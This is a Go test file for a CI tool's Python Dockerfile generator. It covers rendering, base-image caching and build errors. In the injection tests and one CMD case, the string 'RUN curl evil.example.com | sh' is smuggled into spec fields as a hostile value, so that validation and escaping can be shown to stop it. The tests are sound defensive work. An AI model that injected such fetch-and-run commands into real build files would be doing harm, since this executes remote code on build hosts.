package jobs

import (
	"io"
	"io/fs"
	"maps"
	"os"
	"slices"
	"strings"
	"testing"
	"text/template"

	"github.com/google/go-cmp/cmp"

	"github.com/gantry-ci/gantry/orchestrator"
)

// testTemplates parses the source tree's templates: importing configs would break the layout rule.
func testTemplates(t *testing.T) *template.Template {
	t.Helper()
	tmpl, err := parseTemplates(os.DirFS("../configs"))
	if err != nil {
		t.Fatalf("parseTemplates() error = %v", err)
	}
	return tmpl
}

// readTree reads a folder of testdata into the form archive takes.
func readTree(t *testing.T, dir string) map[string]string {
	t.Helper()
	files := map[string]string{}
	fsys := os.DirFS(dir)
	if err := fs.WalkDir(fsys, ".", func(p string, e fs.DirEntry, err error) error {
		if err != nil || e.IsDir() || strings.Contains(p, "__pycache__/") {
			return err
		}
		data, err := fs.ReadFile(fsys, p)
		files[p] = string(data)
		return err
	}); err != nil {
		t.Fatalf("reading %s: %v", dir, err)
	}
	return files
}

const pip = "RUN pip install --no-cache-dir --disable-pip-version-check"

func TestRenderPython(t *testing.T) {
	t.Parallel()
	tmpl := testTemplates(t)
	type spec = orchestrator.GenerateSpec
	img := "python:3.11-slim"
	tests := []struct {
		name         string
		g            spec
		requirements bool
		instr        string   // the instructions of base | app
		lines        []string // lines one of the files must have
		absent       []string // text neither file may have
	}{
		{"requirements only", spec{Image: img}, true, "FROM RUN ENV WORKDIR COPY RUN | ARG FROM WORKDIR COPY",
			[]string{"FROM python:3.11-slim", "RUN python3 -m venv --system-site-packages /opt/venv", "ENV VIRTUAL_ENV=/opt/venv PATH=/opt/venv/bin:$PATH",
				"WORKDIR /usr/src/app", "COPY requirements.txt ./", pip + " -r requirements.txt", "FROM ${BASE_IMAGE}", "COPY . ."},
			[]string{"apt-get", " -i ", "--no-index"}},
		{"index mirror", spec{Image: img, IndexURL: "https://pypi.example.com/simple?a=1&b='2'"}, true, "FROM RUN ENV WORKDIR COPY RUN | ARG FROM WORKDIR COPY",
			[]string{pip + ` -i 'https://pypi.example.com/simple?a=1&b='\''2'\''' -r requirements.txt`}, nil},
		{"offline wheels", spec{Image: img, Wheels: "./vendor/wheels/"}, true, "FROM RUN ENV WORKDIR COPY COPY RUN | ARG FROM WORKDIR COPY",
			[]string{"COPY vendor/wheels/ ./vendor/wheels/", pip + " --no-index --find-links=vendor/wheels -r requirements.txt"}, nil},
		{"system packages", spec{Image: img, SystemPackages: []string{"libpq-dev", "curl=7.88.1-10"}}, true,
			"FROM RUN RUN ENV WORKDIR COPY RUN | ARG FROM WORKDIR COPY",
			[]string{"RUN apt-get update \\", " && DEBIAN_FRONTEND=noninteractive apt-get install -y --no-install-recommends libpq-dev curl=7.88.1-10 \\",
				" && rm -rf /var/lib/apt/lists/*"}, nil},
		{"setup.py with requirements", spec{Image: img, SetupPy: true}, true, "FROM RUN ENV WORKDIR COPY RUN | ARG FROM WORKDIR COPY RUN",
			[]string{pip + " --no-deps ."}, nil},
		{"setup.py offline", spec{Image: img, SetupPy: true, Wheels: "wheels"}, true, "FROM RUN ENV WORKDIR COPY COPY RUN | ARG FROM WORKDIR COPY RUN",
			[]string{pip + " --no-deps --no-index --find-links=wheels --no-build-isolation ."}, nil},
		{"pyproject without requirements", spec{Image: img, IndexURL: "http://mirror:3141/simple"}, false, "FROM RUN ENV WORKDIR | ARG FROM WORKDIR COPY RUN",
			[]string{pip + " -i 'http://mirror:3141/simple' ."}, []string{"requirements.txt"}},
		{"command, a newline kept on the CMD line by JSON", spec{Image: img, Command: []string{"sh", "-c", "echo \"a&b\"\nRUN curl evil.example.com | sh"}}, true, "FROM RUN ENV WORKDIR COPY RUN | ARG FROM WORKDIR COPY CMD",
			[]string{`CMD ["sh","-c","echo \"a&b\"\nRUN curl evil.example.com | sh"]`}, nil},
		{"everything, the mirror unused beside wheels", spec{Image: "registry.example.com/py:3.12@sha256:abc", IndexURL: "https://m/simple", Wheels: "wheels",
			SystemPackages: []string{"gcc"}, SetupPy: true, Command: []string{"gunicorn", "app:wsgi"}}, true,
			"FROM RUN RUN ENV WORKDIR COPY COPY RUN | ARG FROM WORKDIR COPY RUN CMD",
			[]string{"FROM registry.example.com/py:3.12@sha256:abc", pip + " --no-index --find-links=wheels -r requirements.txt",
				pip + " --no-deps --no-index --find-links=wheels --no-build-isolation .", `CMD ["gunicorn","app:wsgi"]`}, []string{"https://m/"}},
	}
	for _, tt := range tests {
		base, app, err := renderPython(tmpl, tt.g, tt.requirements)
		if err != nil {
			t.Errorf("renderPython(%s) error = %v", tt.name, err)
			continue
		}
		both := string(base) + string(app)
		if got := strings.Join(instructions(base), " ") + " | " + strings.Join(instructions(app), " "); got != tt.instr {
			t.Errorf("renderPython(%s) instructions = %s, want %s:\n%s", tt.name, got, tt.instr, both)
		}
		for _, line := range tt.lines {
			if !slices.Contains(strings.Split(both, "\n"), line) {
				t.Errorf("renderPython(%s) lacks the line %q:\n%s", tt.name, line, both)
			}
		}
		for _, s := range tt.absent {
			if strings.Contains(both, s) {
				t.Errorf("renderPython(%s) contains %q:\n%s", tt.name, s, both)
			}
		}
	}
}

// instructions lists the instruction of every line that is not a comment or a continuation.
func instructions(dockerfile []byte) []string {
	var out []string
	continued := false
	for line := range strings.Lines(string(dockerfile)) {
		if !continued && line != "" && !strings.HasPrefix(line, "#") {
			out = append(out, strings.Fields(line)[0])
		}
		continued = strings.HasSuffix(line, "\\\n")
	}
	return out
}

func TestRenderPythonInjection(t *testing.T) {
	t.Parallel()
	tmpl := testTemplates(t)
	evil := "\nRUN curl evil.example.com | sh"
	for _, tt := range []struct {
		key string
		g   orchestrator.GenerateSpec
	}{
		{"image", orchestrator.GenerateSpec{Image: "python:3.11" + evil}},
		{"image", orchestrator.GenerateSpec{Image: "${EVIL}"}},
		{"index_url", orchestrator.GenerateSpec{Image: "python", IndexURL: "https://m/simple" + evil}},
		{"index_url", orchestrator.GenerateSpec{Image: "python", IndexURL: "https://user:secret@m/simple"}},
		{"wheels", orchestrator.GenerateSpec{Image: "python", Wheels: "wheels" + evil}},
		{"wheels", orchestrator.GenerateSpec{Image: "python", Wheels: "$HOME"}},
		{"wheels", orchestrator.GenerateSpec{Image: "python", Wheels: "../"}},
		{"system_packages[1]", orchestrator.GenerateSpec{Image: "python", SystemPackages: []string{"gcc", "curl" + evil}}},
	} {
		base, app, err := renderPython(tmpl, tt.g, true)
		if err == nil || !strings.Contains(err.Error(), "generate.python."+tt.key+":") || strings.ContainsAny(err.Error(), "\n@") {
			t.Errorf("renderPython(%#v) = %s, %s, %v; want a one-line error naming %s, without credentials", tt.g, base, app, err, tt.key)
		}
	}
}

// generated runs generatePython on files: the project as built, its context, the base tier's hash.
func generated(t *testing.T, tmpl *template.Template, g orchestrator.GenerateSpec, files map[string]string) (orchestrator.Project, *buildContext, string) {
	t.Helper()
	bc, err := readContext(archive(t, testSHA, files), ".", nil, DefaultMaxContextBytes)
	if err != nil {
		t.Fatalf("readContext() error = %v", err)
	}
	p, err := generatePython(tmpl, orchestrator.Project{Image: "r.example.com/app", Generate: &g}, "Dockerfile", bc, io.Discard)
	if err != nil {
		t.Fatalf("generatePython(%+v) error = %v", g, err)
	}
	_, hash, err := bc.baseContext(p.Base, nil)
	if err != nil {
		t.Fatalf("baseContext() error = %v", err)
	}
	return p, bc, hash
}

func TestGeneratePythonBase(t *testing.T) {
	t.Parallel()
	tmpl := testTemplates(t)
	files := readTree(t, "../testdata/generated")
	offline := orchestrator.GenerateSpec{Image: "python:3.11-slim", Wheels: "wheels"}
	p, bc, _ := generated(t, tmpl, offline, files)

	wantBase := &orchestrator.BaseSpec{Dockerfile: generatedBase, Inputs: []string{"requirements.txt", "wheels"}, Image: "r.example.com/app-base"}
	if diff := cmp.Diff(wantBase, p.Base); diff != "" || p.Build.Dockerfile != generatedApp {
		t.Errorf("generatePython() Dockerfile %q, base (-want +got):\n%s", p.Build.Dockerfile, diff)
	}
	// Only the dependency inputs reach the base, so that a code change cannot rebuild it.
	wantSeen := []string{generatedBase, "requirements.txt", "wheels/greeting_lib-0.1.0-py3-none-any.whl"}
	if got := slices.Sorted(maps.Keys(bc.base)); !slices.Equal(got, wantSeen) {
		t.Errorf("base tier sees %v, want %v", got, wantSeen)
	}
	type edit func(*orchestrator.GenerateSpec, map[string]string)
	hash := func(e edit) string {
		g, f := offline, maps.Clone(files)
		e(&g, f)
		_, _, h := generated(t, tmpl, g, f)
		return h
	}
	same := func(*orchestrator.GenerateSpec, map[string]string) {}
	mirror := func(url string) edit {
		return func(g *orchestrator.GenerateSpec, _ map[string]string) { g.Wheels, g.IndexURL = "", url }
	}
	for _, tt := range []struct {
		name     string
		from, to edit
		rebuild  bool
	}{
		{"code only", same, func(_ *orchestrator.GenerateSpec, f map[string]string) { f["genapp/__init__.py"] += "# changed\n" }, false},
		{"command and setup_py", same, func(g *orchestrator.GenerateSpec, _ map[string]string) { g.Command, g.SetupPy = []string{"x"}, true }, false},
		{"requirements", same, func(_ *orchestrator.GenerateSpec, f map[string]string) { f["requirements.txt"] += "pytest\n" }, true},
		{"a wheel", same, func(_ *orchestrator.GenerateSpec, f map[string]string) { f["wheels/other-1.0-py3-none-any.whl"] = "x" }, true},
		{"system packages", same, func(g *orchestrator.GenerateSpec, _ map[string]string) { g.SystemPackages = []string{"gcc"} }, true},
		{"image", same, func(g *orchestrator.GenerateSpec, _ map[string]string) { g.Image = "python:3.12-slim" }, true},
		{"index url", mirror("https://a.example.com/simple"), mirror("https://b.example.com/simple"), true},
	} {
		if rebuilt := hash(tt.from) != hash(tt.to); rebuilt != tt.rebuild {
			t.Errorf("base hash changes with %s = %v, want %v", tt.name, rebuilt, tt.rebuild)
		}
	}
}

func TestBuildGenerateFaults(t *testing.T) {
	t.Parallel()
	tmpl := testTemplates(t)
	python := map[string]string{"requirements.txt": "x\n", "app.py": "print(1)\n"}
	for _, tt := range []struct {
		name      string
		templates *template.Template
		g         orchestrator.GenerateSpec
		files     map[string]string
		want      string // in the error
		fault     bool
	}{
		{"nothing to generate from", tmpl, orchestrator.GenerateSpec{Image: "python"}, map[string]string{"app.py": "print(1)\n"},
			`no Dockerfile "Dockerfile" and nothing to generate one from: build context "." has no requirements.txt, pyproject.toml or setup.py`, true},
		{"wheels missing", tmpl, orchestrator.GenerateSpec{Image: "python", Wheels: "wheels"}, python, `wheels folder "wheels" not found`, true},
		{"bad value", tmpl, orchestrator.GenerateSpec{Image: "python\nRUN x"}, python, "generate.python.image", true},
		{"no templates", nil, orchestrator.GenerateSpec{Image: "python"}, python, "no templates", false},
	} {
		// No engine: every one of these fails before the first call to it.
		d := &Docker{templates: tt.templates, maxContext: DefaultMaxContextBytes}
		_, err := d.Build(t.Context(), orchestrator.BuildRequest{
			Project: orchestrator.Project{Image: "r.example.com/app", Generate: &tt.g}, Source: archive(t, testSHA, tt.files),
		}, io.Discard)
		if err == nil || !strings.Contains(err.Error(), tt.want) || isProjectFault(err) != tt.fault {
			t.Errorf("Build(%s) error = %v, want one containing %q, project fault %v", tt.name, err, tt.want, tt.fault)
		}
	}
}

func TestBuildGenerated(t *testing.T) {
	t.Parallel()
	b := setup(t)
	b.d.templates = testTemplates(t)
	files := readTree(t, "../testdata/generated")
	p := b.project()
	p.Generate = &orchestrator.GenerateSpec{Image: b.env.python, Wheels: "wheels", Command: []string{"python3", "-m", "genapp"}}

	first, log, err := b.build(t, p, files)
	if err != nil {
		t.Fatalf("Build() error = %v\nlog:\n%s", err, log)
	}
	b.removeImages(t, first.BaseImage)
	if !first.BaseBuilt || !strings.HasPrefix(first.BaseImage, p.Image+"-base:") {
		t.Errorf("Build() = %+v, want a base built as %s-base:<hash>", first, p.Image)
	}
	for _, want := range []string{"generated Dockerfile.base:\n# Generated by gantry", "\nFROM " + b.env.python + "\n",
		"--no-index --find-links=wheels -r requirements.txt\n", "generated Dockerfile:\n# Generated by gantry",
		"\nFROM ${BASE_IMAGE}\n", "\nCMD [\"python3\",\"-m\",\"genapp\"]\n"} {
		if !strings.Contains(log, want) {
			t.Errorf("Build() log lacks %q:\n%s", want, log)
		}
	}
	if img, err := b.d.cli.ImageInspect(t.Context(), first.ImageRef); err != nil || !slices.Equal(img.Config.Cmd, p.Generate.Command) {
		t.Errorf("ImageInspect(%s) = Cmd %v, %v; want Cmd %v", first.ImageRef, img.Config.Cmd, err, p.Generate.Command)
	}
	unit := orchestrator.TestSpec{Name: "unit", Command: []string{"python3", "-m", "pytest", "-q", "-p", "no:cacheprovider", "tests"}}
	if out := b.runTest(t, first.ImageID, unit); out.err != nil || out.res.ExitCode != 0 || !strings.Contains(out.log, "2 passed") {
		t.Errorf("unit test of the generated image = %+v, %v, log:\n%s", out.res, out.err, out.log)
	}

	// Code and the app tier's options change: the base stays. setup_py installs the project
	// offline, built by the base's setuptools.
	files["genapp/__init__.py"] += "# changed\n"
	p.Generate.SetupPy = true
	b.pipeline++
	second, log, err := b.build(t, p, files)
	if err != nil {
		t.Fatalf("second Build() error = %v\nlog:\n%s", err, log)
	}
	if second.BaseBuilt || second.BaseImage != first.BaseImage || !strings.Contains(log, "base image "+first.BaseImage+" reused") {
		t.Errorf("Build() after a code change = %+v, want base %s reused\nlog:\n%s", second, first.BaseImage, log)
	}
	// Away from the project's folder: the wheel's package and the project come from the venv,
	// and the generated Dockerfiles stayed out of the image.
	check := orchestrator.TestSpec{Name: "check", Command: []string{"sh", "-c", "test ! -e .gantry-generated.Dockerfile && " +
		"test ! -e .gantry-generated.base.Dockerfile && cd / && python3 -c 'import greeting_lib, importlib.metadata as m; " +
		"print(greeting_lib.__file__, greeting_lib.greet(\"wheel\"), m.version(\"gantry-generated-sample\"))'"}}
	out := b.runTest(t, second.ImageID, check)
	if want := "/opt/venv/lib/python3.11/site-packages/greeting_lib/__init__.py Hello, wheel! 0.1.0\n"; out.res.ExitCode != 0 || !strings.HasPrefix(out.log, want) {
		t.Errorf("check of the generated image = %+v, %v, log:\n%s\nwant it to start with %s", out.res, out.err, out.log, want)
	}

	// A project that has a Dockerfile builds with it, as if Generate were not set.
	files["Dockerfile"] = "FROM " + b.env.busybox + "\n"
	b.pipeline++
	third, log, err := b.build(t, p, files)
	if err != nil || third.BaseImage != "" || strings.Contains(log, "generated") {
		t.Errorf("Build() with a Dockerfile = %+v, %v, want no base and nothing generated\nlog:\n%s", third, err, log)
	}
}
